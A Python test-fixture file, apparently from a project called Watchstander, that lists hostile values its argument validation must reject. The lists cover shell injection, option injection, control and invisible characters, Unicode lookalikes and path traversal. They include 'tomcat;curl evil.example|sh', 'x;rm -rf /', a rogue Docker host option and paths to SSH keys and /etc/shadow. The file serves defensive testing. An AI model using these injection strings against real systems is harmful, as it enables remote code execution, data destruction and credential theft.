"""Values that must never reach a host, by the trick they try. No slot of any argv takes one."""

from __future__ import annotations

SHELL = [
    ";id", "x;id", "x; id", "x&&id", "x && id", "x||id", "x|id", "x | sh", "x&", "&x", "x &",
    "`id`", "x`id`", "$(id)", "x$(id)", "${IFS}id", "x${IFS}id", "$IFS$9id", "${PATH:0:1}",
    "$HOME", "$0", "$$", "$((1+1))", "<(id)", ">(id)", ">x", "x>/etc/passwd", "x>>y", "<x",
    "x<<EOF", "x<<<y", "2>&1", "*", "x*", "?", "[a-z]", "{a,b}", "x{1..3}", "~", "~root", "!x",
    "!!", "#x", "x #", "'", "x'y", "'x'", '"', 'x"y', '"x"', "\\", "x\\y", "x\\", "\\x", "(id)",
    "x)", "x(", "%s%n", "%x", "^x", "x^y", "x y", " x", "x ", "  ", "x\ty", "x'$(id)'", "';id;'",
    '";id;"', "'\";id", "x;reboot", "x;rm -rf /", "tomcat;curl evil.example|sh", "x$IFS",
    "true;false", "x=$(id)", "a`b`c", "$'\\x41'", "$\"x\"", "x\\\n", "x;#", "{{7*7}}", "{%x%}",
]  # fmt: skip
OPTIONS = [
    "-", "--", "-x", "-rf", "--help", "--version", "-h", "-H", "-H tcp://evil:2375",
    "--host=tcp://evil:2375", "--host", "-oProxyCommand=id", "-oProxyCommand=sh${IFS}-c",
    "-o ProxyCommand=id", "-F/tmp/x", "-f", "--follow", "--root=/", "-R", "--chroot=/x", "-M",
    "--machine=x", "--user=root", "-u", "-c", "-c id", "--command=id", "-e", "--eval=id", "-i",
    "--privileged", "-v/:/mnt", "--pid=host", "--no-block", "--force", "--now", "--", "---", "-1",
    "-0", "-10", "+x", "@file", "@/etc/passwd", "@-", "=x", ":x", ",x", "%x", "-\u200b", "\u2010x",
    "\u2212x", "\u2014x", "\ufe63x", "\uff0dx",
]  # fmt: skip
CONTROL = [
    "\n", "x\n", "\nx", "x\ny", "x\r", "x\r\n", "\rx", "x\ry", "\x00", "x\x00", "x\x00y", "\x00x",
    "x\x1b[31m", "\x1b]8;;http://evil\x07", "x\x07", "x\x08", "x\x0b", "x\x0c", "x\x7f", "x\x80",
    "x\x85", "x\x9b", "x\x9d", "x\u2028", "x\u2029", "x\u0085y", "\t", "x\t", "\ud800", "x\udfff",
    "\x04", "\x03", "x\x1a", "tomcat\n", "root\n", "/var/log/x\n", "1\n", "200\n",
    "SR-20261120-0001\n", "rotate.sh\n", "close\n",
]  # fmt: skip
LOOKALIKE = [
    "x\uff1bid", "\uff1b", "\uff5cx", "\uff06\uff06", "\uff04(id)", "\uff40id\uff40", "\uff0fx",
    "\uff0e\uff0e", "\uff0d\uff0dhelp", "\uff41dmin", "\uff54omcat", "tomc\u0430t", "\u0442omcat",
    "r\u043eot", "\u0430dmin", "\u03bfps", "\u0456d", "tom\u0441at", "t\u043emcat", "ad\u043cin",
    "\u2024\u2024", "\u2025", "\u2026", "\u2215etc", "\u2044etc", "\u29f8x", "x\u037e", "\u037e",
    "\u01c3x", "\u02b9", "\u2018x\u2019", "\u201cx\u201d", "\u00e9", "e\u0301", "\u00df", "\u0130",
    "\u0131d", "\u212a", "\ufb01le", "\u2160", "\u24d0", "\U0001d41a", "\U0001f600", "\u1160x",
    "\u3164x", "\u115f", "\u2800x",
]  # fmt: skip
DIGITS = [
    "\u0661\u0662", "\u06f1", "\u0967", "\uff11\uff12", "\u00b2", "\u00bd", "\u2460", "\u4e00",
    "\U0001d7cf", "\u0e51", "1\u0662", "2\uff10\uff10", "\u2070", "\u2155",
    "SR-\uff12\uff10\uff12\uff16\uff11\uff11\uff12\uff10-0001",
    "SR-\u0662\u0660\u0662\u0666\u0661\u0661\u0662\u0660-0001",
]  # fmt: skip
UNSEEN = [
    "\u200b", "x\u200by", "\u200cx", "\u200dx", "x\u200d", "\ufeffx", "x\ufeff", "\u2060x",
    "x\u2060y", "\u00adx", "x\u00ad", "\u180ex", "\u061cx", "\u200ex", "\u200fx", "\u202ax",
    "x\u202b", "\u202dx", "x\u202ey", "\u202egnp.sh", "\u2066x", "\u2067x", "\u2068x\u2069",
    "\u2064x", "\ufe0fx", "x\ufe0f", "\u034fx", "\U000e0041", "\U000e0001x", "\U000e007fx",
    "\u00a0", "x\u00a0y", "\u2003x", "\u3000", "x\u3000", "\u1680x", "\u202fx", "\u205fx",
    "\ue000x", "\uffffx", "\U0010ffff",
]  # fmt: skip
PATHS = [
    "..", "../x", "x/../y", "/..", "/../etc/passwd", "/var/log/../../etc/passwd", "/var/log/..",
    "/var/log/../log/x", "//", "//etc/passwd", "/var/log//x", "/var//log/x", "./x", ".", "/.",
    "/var/log/./x", "/var/log/.hidden", "/home/ops/.ssh/id_ed25519", "/var/log/x/..", "~/x",
    "/var/log/x;id", "/var/log/x y", "/var/log/*", "/var/log/$(id)", "/var/log/-x/../y",
    "/var/log/x\n", "/var/log/x\x00.log", "/var/log/\u202ex", "/var/log/\uff0e\uff0e/x",
    "/var/log/%2e%2e/etc/passwd", "..%2fetc", "/var/log/..;/x", "\\\\host\\share", "C:\\x",
    "/var/log/x\\..\\y", "file:///etc/passwd", "/proc/self/../../etc/shadow", "....//etc",
    "/var/log/x//", "/var/log/.../x", "/var/log/..\u200b/x",
]  # fmt: skip
LONG = ["x" * 1000, "x" * 100_000, "/" + "x" * 5000, "/var/log/" + "x" * 300, "1" * 400, "9" * 5000,
        "SR-" + "1" * 200, "a/" * 4000, "\u00e9" * 1000, "x\n" * 1000]  # fmt: skip
EMPTY_OR_SPACE = ["", " ", "\u2009", "\x1f"]

#: What no argv slot takes: each is hostile wherever it stands.
HOSTILE = tuple(
    dict.fromkeys(
        SHELL + OPTIONS + CONTROL + LOOKALIKE + DIGITS + UNSEEN + PATHS + LONG + EMPTY_OR_SPACE
    )
)

#: Not even a word.
WRONG_TYPES: tuple[object, ...] = (
    None, True, False, 1.5, float("nan"), -1, 0, 10**30, b"x", [], {}, [[]], {"x": "y"}, ["\n"],
    ("x", None), object(),
)  # fmt: skip

#: What prose that stays inside Watchstander does not take either: it could not be seen.
UNSEEN_IN_PROSE = tuple(
    value
    for value in dict.fromkeys(CONTROL + UNSEEN)
    # Variation selectors, fillers and accents are drawn, or are part of what is drawn.
    if value not in ("\ufe0fx", "x\ufe0f", "\u034fx")
)
